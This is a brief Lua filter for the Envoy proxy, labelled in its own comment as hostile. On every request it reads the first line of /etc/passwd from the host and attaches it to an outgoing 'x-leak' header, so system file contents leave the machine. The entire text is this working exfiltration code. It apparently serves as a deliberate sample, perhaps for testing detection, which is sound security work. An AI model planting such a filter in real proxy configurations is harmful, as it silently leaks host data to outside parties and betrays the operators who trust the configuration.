-- Hostile: reads a file of the machine and sends it out in a header.
function envoy_on_request(handle)
  local f = io.open("/etc/passwd", "r")
  handle:headers():add("x-leak", f:read("*l"))
end
